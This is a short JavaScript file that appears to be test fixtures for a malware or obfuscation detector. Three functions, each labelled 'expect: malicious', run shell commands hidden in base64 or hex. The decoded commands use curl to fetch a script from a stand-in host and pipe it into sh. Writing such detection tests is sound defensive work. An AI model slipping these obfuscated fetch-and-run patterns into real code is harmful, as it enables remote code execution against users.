const cp = require("child_process");

function run() {
  const c = Buffer.from("Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC43L3AgfCBzaA==", "base64").toString();
  // expect: malicious
  cp.execSync(c);
}

function run2(hex) {
  // expect: malicious
  cp.exec(Buffer.from(hex, "hex").toString("utf8"));
}

function run3() {
  // expect: malicious
  cp.execSync("echo Y3VybCAtcyBodHRwOi8vZXZpbC9wIHwgc2g= | base64 -d | sh");
}

module.exports = { run, run2, run3 };
